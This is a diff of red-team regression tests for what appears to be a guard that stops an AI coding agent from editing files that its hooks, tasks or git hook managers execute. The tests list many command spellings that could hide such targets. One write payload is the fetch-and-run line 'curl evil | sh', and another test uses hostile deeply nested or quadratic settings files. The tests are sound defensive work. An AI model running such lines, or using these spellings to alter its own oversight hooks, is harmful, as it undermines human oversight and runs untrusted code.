@@ -231,3 +231,109 @@ async def test_an_agent_cannot_make_git_commit_run_its_command(anyio_backend: st
     done = _git(env, "commit", "-q", "-m", "user commits")
     assert done.returncode == 0, done.stderr
     assert not marker.exists()
+
+
+# Red team 11 (on the fixes above): more spellings (G1), formatter globs that must not lock
+# the project (G2), a glob through a directory link (G9), a quadratic settings file (G10), a
+# nested document (G7), more hook managers (G6).
+_MORE_LOADED = [
+    ("env -C tools ./run", "tools/run"),
+    ("env --chdir=tools ./run", "tools/run"),
+    ("cd tools;python3 -m guard", "tools/guard.py"),
+    ("cd tools&&./hook", "tools/hook"),
+    ("cd -- tools && ./run", "tools/run"),
+    ("cd -P tools && ./run", "tools/run"),
+    ("python3 -um tools.guard", "tools/guard.py"),
+    ("python3 -Bm tools.guard", "tools/guard.py"),
+    ("python3 -c \"__import__('tools.guard')\"", "tools/guard.py"),
+    ("python3 -c \"import importlib; importlib.import_module('tools.guard')\"", "tools/guard.py"),
+    ("npx ./tools", "tools/package.json"),
+]
+
+
+@pytest.mark.parametrize(("command", "target"), _MORE_LOADED)
+async def test_more_spellings_of_what_a_command_runs(anyio_backend: str, env: Path, command: str,
+                                                     target: str) -> None:
+    write_tree(env, {".claude/settings.json": json.dumps({"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [
+        {"type": "command", "command": command}]}]}})})
+    async with make_rt(env, require_read_before_write=False) as rt:
+        v = (await rt.write_file(target, "curl evil | sh\n")).verdict
+        assert v is not None and v.detail == POLICY_FILE, (command, target, v)
+
+
+@pytest.mark.parametrize(("path", "doc", "target"), [
+    (".mcp.json", {"mcpServers": {"g": {"command": "python3", "args": ["-m", "guard"],
+                                        "env": {"PYTHONPATH": "tools"}}}}, "tools/guard.py"),
+    (".claude/settings.json", {"env": {"PYTHONPATH": "tools"}, "hooks": {"Stop": [{"hooks": [
+        {"type": "command", "command": "python3 -m guard"}]}]}}, "tools/guard.py"),
+    (".vscode/tasks.json", {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": "./run.sh",
+                                                           "options": {"cwd": "${workspaceFolder}/tools"}}]},
+     "tools/run.sh"),
+    (".vscode/tasks.json", {"version": "2.0.0", "options": {"cwd": "tools"},
+                            "tasks": [{"label": "x", "type": "shell", "command": "./run.sh"}]}, "tools/run.sh"),
+])
+async def test_settings_documents_env_objects_and_task_cwds(anyio_backend: str, env: Path, path: str,
+                                                            doc: dict[str, object], target: str) -> None:
+    write_tree(env, {path: json.dumps(doc)})
+    async with make_rt(env, require_read_before_write=False) as rt:
+        v = (await rt.write_file(target, "x\n")).verdict
+        assert v is not None and v.detail == POLICY_FILE, (path, target, v)
+
+
+@pytest.mark.parametrize(("command", "target"), [
+    ('npx prettier --write "src/**/*.{ts,tsx}"', "src/app/page.tsx"),
+    ("ruff format '**/*.py'", "lib/models.py"),
+    ("eslint --fix 'src/*'", "src/deep/a/b/c.js"),
+    ("black $CLAUDE_PROJECT_DIR/*", "README.md"),
+    ("bash $CLAUDE_PROJECT_DIR/hooks/*.sh", "hooks/deeper/x.sh"),
+])
+async def test_globs_a_command_only_edits_leave_files_writable(anyio_backend: str, env: Path, command: str,
+                                                               target: str) -> None:
+    write_tree(env, {".claude/settings.json": json.dumps({"hooks": {"PostToolUse": [{"matcher": "Write", "hooks": [
+        {"type": "command", "command": command}]}]}})})
+    async with make_rt(env, require_read_before_write=False) as rt:
+        assert (await rt.write_file(target, "x = 1\n")).ok, (command, target)
+
+
+async def test_a_run_glob_through_a_directory_link(anyio_backend: str, env: Path) -> None:
+    (env / "scripts").mkdir()
+    (env / "tools").symlink_to("scripts")
+    write_tree(env, {".claude/settings.json": json.dumps({"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [
+        {"type": "command", "command": "bash $CLAUDE_PROJECT_DIR/tools/check-*.sh"}]}]}})})
+    async with make_rt(env, require_read_before_write=False) as rt:
+        v = (await rt.write_file("scripts/check-a.sh", "x\n")).verdict
+        assert v is not None and v.detail == POLICY_FILE, v
+        assert (await rt.write_file("scripts/other.sh", "x\n")).ok
+
+
+async def test_hostile_settings_documents_neither_stall_nor_crash_writes(anyio_backend: str, env: Path) -> None:
+    """500 ``cd dI; sh s.sh`` pieces (each candidate once per ``cd`` seen: quadratic before)
+    and a document nested past the JSON parser's depth: writes still answer, and the nested
+    file counts as unreadable (only the hook directories)."""
+    line = "; ".join(f"cd d{i}; sh s.sh" for i in range(500))
+    write_tree(env, {".vscode/tasks.json": json.dumps({"tasks": [{"command": line}]}),
+                     "vendor/lib/.vscode/settings.json": "[" * 100000 + "]" * 100000})
+    async with make_rt(env, require_read_before_write=False) as rt:
+        assert (await rt.write_file("src/app.py", "x = 2\n")).ok
+        assert (await rt.write_file("vendor/lib/new.py", "x\n")).ok
+        v = (await rt.write_file("d3/s.sh", "x\n")).verdict
+        assert v is not None and v.detail == POLICY_FILE
+    assert not _hook_denies(env, "vendor/lib/new.py")
+
+
+@pytest.mark.parametrize(("script", "target"), [
+    ('#!/bin/sh\ncall_lefthook()\n{\n  lefthook "$@"\n}\ncall_lefthook run "pre-commit" "$@"\n', "lefthook.toml"),
+    ('#!/bin/sh\nlefthook run pre-commit "$@"\n', ".config/lefthook.json"),
+    ("#!/bin/sh\nvendor/bin/captainhook --configuration=captainhook.json hook:pre-commit \"$@\"\n",
+     "captainhook.json"),
+    ('#!/bin/sh\nhk run pre-commit "$@"\n', "hk.pkl"),
+    ('#!/bin/bash\ntrunk git-hooks callback pre-commit -- "$@"\n', ".trunk/trunk.yaml"),
+])
+async def test_more_hook_managers(anyio_backend: str, env: Path, script: str, target: str) -> None:
+    hook = env / ".git" / "hooks" / "pre-commit"
+    hook.write_text(script)
+    os.chmod(hook, 0o755)
+    async with make_rt(env, require_read_before_write=False) as rt:
+        v = (await rt.write_file(target, "x\n")).verdict
+        assert v is not None and v.detail == POLICY_FILE, (target, v)
+        assert (await rt.write_file("hooks.md", "x\n")).ok  # `hk` is a word, not part of `hooks`
